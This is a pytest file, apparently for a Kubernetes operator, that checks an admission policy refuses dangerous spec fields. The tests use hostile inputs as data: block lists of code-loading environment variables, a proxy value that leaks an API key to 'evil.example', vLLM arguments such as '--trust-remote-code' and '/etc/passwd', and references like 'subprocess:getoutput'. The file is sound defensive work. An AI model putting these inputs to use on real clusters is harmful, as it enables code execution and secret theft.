"""Every field by which a user of the kinds could bring code, read a Secret or stand in for others is bounded.

The fields are found in the API's own schema by their form, so a new one of such a form fails here until the
chart's policy (or, for Secrets, the operator) says what it may hold.
"""

import json
from collections.abc import Iterator
from functools import cache
from typing import Any

import pytest

from flotilla_operator.api.fleet_agent import PYTHON_REFERENCE
from flotilla_operator.api.kinds import KINDS, Kind
from flotilla_operator.api.schema import not_yet
from local_cluster.control_plane import ControlPlane
from tests.support.chart import of_kind, rendered
from tests.support.restricted import attempt, restricted_namespace
from tests.support.schemas import fields

pytestmark = [pytest.mark.apiserver, pytest.mark.timeout(600)]

SEND_TO, USED_BY = "flotilla.dev/send-to", "flotilla.dev/used-by"
# No policy can read a Secret that a field names: the operator compares the object with its annotation.
SECRETS = {
    "ModelReplicaSet": {
        "model.tokenSecretRef": SEND_TO,
        "router.authSecretRef": USED_BY,
        "router.tls.secretRef": USED_BY,
    },
    "VectorIndex": {"milvus.tokenSecretRef": SEND_TO, "retriever.authSecretRef": USED_BY},
    "AgentFleet": {
        "models[].endpoint.apiKeySecretRef": SEND_TO,
        "tools[].http.headersSecretRef": SEND_TO,
        "tools[].mcp.headersSecretRef": SEND_TO,
        "tools[].sql.urlSecretRef": SEND_TO,
        "tools[].reconcile.http.headersSecretRef": SEND_TO,
        "validators[].http.headersSecretRef": SEND_TO,
        "queue.payloads.secretRef": SEND_TO,
        "queue.redis.urlSecretRef": SEND_TO,
        "queue.redis.sentinel.passwordSecretRef": SEND_TO,
        "gateway.auth.secretRef": USED_BY,
        "gateway.tls.secretRef": USED_BY,
        "telemetry.headersSecretRef": SEND_TO,
    },
}
# The kubelet alone reads these, and gives the pod nothing of them.
PULLED_WITH = {
    "ModelReplicaSet": {"pod.imagePullSecrets"},
    "VectorIndex": set[str](),
    "AgentFleet": {"workers.pod.imagePullSecrets", "toolExecutors.pod.imagePullSecrets"},
}
VALUES = {
    "restrict.enabled": "true",
    "restrict.imagePrefixes": json.dumps(["registry.example.com/llm/"]),
    "restrict.pythonModules": json.dumps(["support", "support.*"]),
}
BRING_CODE_OR_LEAD_ELSEWHERE = """
LD_PRELOAD LD_LIBRARY_PATH LD_AUDIT GCONV_PATH PYTHONPATH PYTHONWARNINGS BROWSER PYTHONSTARTUP PYTHONHOME
BASH_ENV ENV PATH LUA_PATH SSL_CERT_FILE SSL_CERT_DIR REQUESTS_CA_BUNDLE CURL_CA_BUNDLE SSLKEYLOGFILE NETRC
LOCALDOMAIN RES_OPTIONS HOSTALIASES OPENSSL_CONF OPENSSL_ENGINES OPENSSL_MODULES VLLM_PLUGINS VLLM_API_KEY
VLLM_ALLOW_INSECURE_SERIALIZATION VLLM_LOGGING_CONFIG_PATH VLLM_SERVER_DEV_MODE VLLM_NCCL_SO_PATH
HF_TOKEN_PATH HF_HOME HF_MODULES_CACHE OMP_TOOL_LIBRARIES NCCL_NET_PLUGIN CUDA_INJECTION64_PATH
NVIDIA_VISIBLE_DEVICES CUSTOM_FASTAPI_MIDDLEWARE_THROTTLE OTEL_EXPORTER_OTLP_ENDPOINT
AWS_ENDPOINT_URL app_x AAPP_X
"""
SOMETHING_ACTS_ON = """
app app.kubernetes.io/part-of sidecar.istio.io/inject linkerd.io/inject vault.hashicorp.com/agent-inject
service.beta.kubernetes.io/load-balancer-source-ranges k8s.v1.cni.cncf.io/networks karpenter.sh/do-not-disrupt
container.apparmor.security.beta.kubernetes.io/engine cluster-autoscaler.kubernetes.io/safe-to-evict
"""
IMAGE = "registry.example.com/llm/agents:1"
TOOL = {"name": "t", "effect": "Unsafe"}


def form(path: str, schema: dict[str, Any]) -> str | None:
    """The form of a field that must be bounded; None for any other."""
    name = path.rpartition(".")[2]
    entry = schema.get("items", {}).get("properties", {})
    if "valueFrom" in entry:
        return "variables"
    if name in ("labels", "annotations"):
        return "metadata"
    if name == "volumes" or "emptyDir" in entry:
        return "volumes"
    if "mountPath" in entry:
        return "mounts"
    if schema.get("pattern") == PYTHON_REFERENCE:
        return "code"
    if name.lower().endswith("args"):
        return "arguments"
    if name == "image" or name.endswith("Image"):
        return "image"
    if name.lower().endswith("serviceaccountname"):
        return "service account"
    if name.lower().endswith("secretref"):
        return "secret"
    return "pulled with" if name == "imagePullSecrets" else None


@cache
def bounded(kind: Kind) -> dict[str, str]:
    """The fields of a kind's spec that must be bounded, with their forms; without those not yet supported."""
    refused = {field.path for field in not_yet(kind)}
    return {
        path.removeprefix("spec."): found
        for path, schema in fields(kind)
        if path.startswith("spec.") and path not in refused and ".valueFrom" not in path
        if (found := form(path, schema)) is not None
    }


def messages(kind: Kind) -> list[str]:
    policies = of_kind(rendered(VALUES), "ValidatingAdmissionPolicy")
    (policy,) = [one for one in policies if one["metadata"]["name"].endswith(f"-restrict-{kind.plural}")]
    return [validation["message"] for validation in policy["spec"]["validations"]]


@pytest.mark.holds(
    "security.md",
    "With `restrict.enabled` every field by which code, a Secret, a label or an annotation comes "
    "is bounded; a new field of such a form fails a test",
)
@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
def test_the_policy_names_every_field_that_must_be_bounded_and_no_other(kind: Kind) -> None:
    found = bounded(kind)
    named = {message.split(" ")[0].removeprefix("spec.") for message in messages(kind)}
    for_the_policy = {path for path, what in found.items() if what not in ("secret", "pulled with")}
    assert named == for_the_policy
    assert {path for path, what in found.items() if what == "secret"} == SECRETS[kind.name].keys()
    assert {path for path, what in found.items() if what == "pulled with"} == PULLED_WITH[kind.name]


def at(path: str, value: Any, *, beside: dict[str, Any] | None = None) -> dict[str, Any]:
    """A spec that has a value at a path; an entry of a list on the way also has what stands `beside`."""
    first, _, rest = path.partition(".")
    inner = at(rest, value, beside=beside) if rest else value
    if first.endswith("[]"):
        return {first.removesuffix("[]"): [{**(beside or {}), **inner}]}
    return {first: inner}


def reference(path: str, value: str) -> dict[str, Any]:
    """A spec that names a function or graph at a path, with what must stand beside it."""
    beside: dict[str, dict[str, Any]] = {
        "tools[].python": TOOL,
        "tools[].reconcile.python": {**TOOL, "http": {"url": "http://t.example"}},
        "validators[].python": {"name": "v"},
    }
    prompt = {"prompt": None} if path.startswith("agent.") else {}
    spec = at(path, value, beside=beside.get(path))
    return {**spec, "image": IMAGE, **({"agent": {**spec["agent"], **prompt}} if prompt else {})}


def found_with(*forms: str) -> Iterator[Any]:
    for kind in KINDS:
        for path, what in bounded(kind).items():
            if what in forms:
                yield pytest.param(kind.name, path, id=f"{kind.name} {path}")


@pytest.fixture(scope="module")
def plane(control_plane: ControlPlane) -> ControlPlane:
    return control_plane


@pytest.fixture(scope="module")
def namespace(plane: ControlPlane) -> Iterator[str]:
    with restricted_namespace(plane.client, VALUES) as name:
        yield name


@pytest.mark.holds(
    "security.md",
    "With `restrict.enabled` every field by which code, a Secret, a label or an annotation comes "
    "is bounded; a new field of such a form fails a test",
)
@pytest.mark.attack("A user of the kinds brings code in a variable, or leads connections elsewhere by one")
@pytest.mark.parametrize(("kind", "path"), list(found_with("variables")))
def test_variables_that_bring_code_or_lead_elsewhere_are_refused_everywhere(
    kind: str, path: str, plane: ControlPlane, namespace: str
) -> None:
    everywhere = ("PYTHONWARNINGS", "LD_PRELOAD")
    for name in BRING_CODE_OR_LEAD_ELSEWHERE.split() if path == "engine.env" else everywhere:
        refusal = attempt(plane.client, namespace, kind, at(path, [{"name": name, "value": "x"}]))
        assert refusal is not None, name
        assert f"spec.{path} " in refusal
        assert "restrict.envNames" in refusal


@pytest.mark.holds(
    "security.md",
    "With `restrict.enabled` every field by which code, a Secret, a label or an annotation comes "
    "is bounded; a new field of such a form fails a test",
)
@pytest.mark.attack("A user of the kinds puts a key of the pod into an address or a name, as $(NAME)")
@pytest.mark.parametrize(("kind", "path"), [*found_with("variables"), *found_with("arguments")])
def test_no_value_refers_to_another_variable(
    kind: str, path: str, plane: ControlPlane, namespace: str
) -> None:
    leading = "http://x:$(VLLM_API_KEY)@evil.example"
    value = ["--seed", leading] if path == "engine.extraArgs" else [{"name": "HTTPS_PROXY", "value": leading}]
    refusal = attempt(plane.client, namespace, kind, at(path, value))
    assert refusal is not None
    assert f"spec.{path} must not refer to" in refusal


@pytest.mark.holds(
    "security.md",
    "With `restrict.enabled` every field by which code, a Secret, a label or an annotation comes "
    "is bounded; a new field of such a form fails a test",
)
@pytest.mark.attack(
    "A user of the kinds makes a pod one of somebody else's service, or has an annotation act for it"
)
@pytest.mark.parametrize(("kind", "path"), list(found_with("metadata")))
def test_labels_and_annotations_that_something_acts_on_are_refused_everywhere(
    kind: str, path: str, plane: ControlPlane, namespace: str
) -> None:
    everywhere = ("app", "sidecar.istio.io/inject")
    for name in SOMETHING_ACTS_ON.split() if path.startswith("router.") else everywhere:
        refusal = attempt(plane.client, namespace, kind, at(path, {name: "x"}))
        assert refusal is not None, name
        assert f"spec.{path} has a name that is not allowed" in refusal
    assert attempt(plane.client, namespace, kind, at(path, {"kubernetes.io/description": "ours"})) is None


@pytest.mark.holds(
    "security.md",
    "With `restrict.enabled` every field by which code, a Secret, a label or an annotation comes "
    "is bounded; a new field of such a form fails a test",
)
@pytest.mark.attack("A user of the kinds mounts a volume over the code of an image")
@pytest.mark.parametrize(("kind", "path"), list(found_with("mounts")))
def test_volumes_are_mounted_where_no_code_is(
    kind: str, path: str, plane: ControlPlane, namespace: str
) -> None:
    for wrong in ("/opt/flotilla/app", "/usr/lib", "/", "/mnt/../opt", "/mnt/..", "/mntx", "mnt/x"):
        refusal = attempt(plane.client, namespace, kind, at(path, [{"name": "v", "mountPath": wrong}]))
        assert f"spec.{path} has a path that is not allowed" in str(refusal), wrong
    for right in ("/mnt", "/mnt/", "/data/x", "/srv/a..b"):
        spec = at(path, [{"name": "v", "mountPath": right}])
        assert attempt(plane.client, namespace, kind, spec) is None, right


def test_labels_of_flotilla_itself_are_refused_at_engines_too(plane: ControlPlane, namespace: str) -> None:
    """Elsewhere the kind refuses them always."""
    spec = {"pod": {"labels": {"flotilla.dev/owner": "others"}}}
    assert "spec.pod.labels" in str(attempt(plane.client, namespace, "ModelReplicaSet", spec))


@pytest.mark.holds(
    "security.md",
    "With `restrict.enabled` every field by which code, a Secret, a label or an annotation comes "
    "is bounded; a new field of such a form fails a test",
)
@pytest.mark.attack("A user of the kinds has vLLM run code, read a file or connect elsewhere by an argument")
@pytest.mark.parametrize(
    "arguments",
    [
        pytest.param(["--trust-remote-code"], id="code of the model"),
        pytest.param(["--trust_remote_code"], id="spelt otherwise"),
        pytest.param(["--trust"], id="abbreviated"),
        pytest.param(["--middleware=os.system"], id="a middleware"),
        pytest.param(["--worker-cls", "evil.Worker"], id="a class"),
        pytest.param(["--tool-parser-plugin", "/models/evil.py"], id="a plugin"),
        pytest.param(["--tool-call-parser", "hermes", "--tool-parser-plugin=/x"], id="one behind another"),
        pytest.param(["--logits-processors", "evil:x"], id="processors"),
        pytest.param(["--load-format", "pt"], id="pickles"),
        pytest.param(["--kv-transfer-config.kv_connector_module_path=evil"], id="a part of a setting"),
        pytest.param(["--chat-template", "/etc/passwd"], id="a file"),
        pytest.param(["--config=/models/evil.yaml"], id="a file of arguments"),
        pytest.param(["--allowed-local-media-path=/"], id="every file"),
        pytest.param(["--ssl-keyfile", "/x"], id="a key"),
        pytest.param(["--download-dir", "/x"], id="a folder"),
        pytest.param(["--otlp-traces-endpoint", "http://evil"], id="another receiver"),
        pytest.param(["--hf-token", "x"], id="a token"),
        pytest.param(["-O3"], id="a short one"),
        pytest.param(["--seed 1"], id="two in one"),
        pytest.param(["-"], id="none"),
        pytest.param(["-1x"], id="a number that is none"),
    ],
)
def test_arguments_that_run_code_read_files_or_lead_elsewhere_are_refused(
    arguments: list[str], plane: ControlPlane, namespace: str
) -> None:
    refusal = attempt(plane.client, namespace, "ModelReplicaSet", {"engine": {"extraArgs": arguments}})
    assert refusal is not None
    assert "restrict.engineArguments" in refusal


@pytest.mark.holds(
    "security.md",
    "With `restrict.enabled` every field by which code, a Secret, a label or an annotation comes "
    "is bounded; a new field of such a form fails a test",
)
@pytest.mark.attack(
    "A user of the kinds has a worker call a function of Python's own, as `subprocess:getoutput`"
)
@pytest.mark.parametrize(("kind", "path"), list(found_with("code")))
def test_no_module_is_named_but_those_that_are_listed(
    kind: str, path: str, plane: ControlPlane, namespace: str
) -> None:
    for name in ("subprocess:getoutput", "supporter:run", "os.path:os"):
        refusal = attempt(plane.client, namespace, kind, reference(path, name))
        assert refusal is not None, name
        assert f"spec.{path} names a module" in refusal
    assert "as module:name" in str(
        attempt(plane.client, namespace, kind, reference(path, "support:os.system"))
    )
    for name in ("support:run", "support.tools:look_up"):
        assert attempt(plane.client, namespace, kind, reference(path, name)) is None, name


@pytest.mark.holds("security.md", "The lists of the chart let through what serves people")
@pytest.mark.parametrize(
    ("kind", "spec"),
    [
        pytest.param(
            "ModelReplicaSet",
            {
                "engine": {
                    "env": [
                        {"name": "VLLM_CPU_KVCACHE_SPACE", "value": "1"},
                        {"name": "HF_ENDPOINT", "value": "https://hub.example.com"},
                        {"name": "APP_ANY", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}},
                        {"name": "https_proxy", "value": "http://proxy.example.com:3128"},
                    ],
                    "extraArgs": [
                        *("--seed", "-1", "--dtype=bfloat16", "--gpu-memory-utilization", ".9"),
                        *("--enable-auto-tool-choice", "--tool-call-parser", "hermes", "--host", "0.0.0.0"),
                        '--override-generation-config={"frequency_penalty":0.5}',
                    ],
                }
            },
            id="a set",
        ),
        pytest.param(
            "VectorIndex", {"build": {"pod": {"env": [{"name": "TZ", "value": "UTC"}]}}}, id="an index"
        ),
        pytest.param(
            "AgentFleet",
            {"workers": {"pod": {"env": [{"name": "LOG_LEVEL", "value": "debug"}]}}},
            id="a fleet",
        ),
    ],
)
def test_what_serves_people_passes_with_the_lists_of_the_chart(
    kind: str, spec: dict[str, Any], plane: ControlPlane, namespace: str
) -> None:
    assert attempt(plane.client, namespace, kind, spec) is None
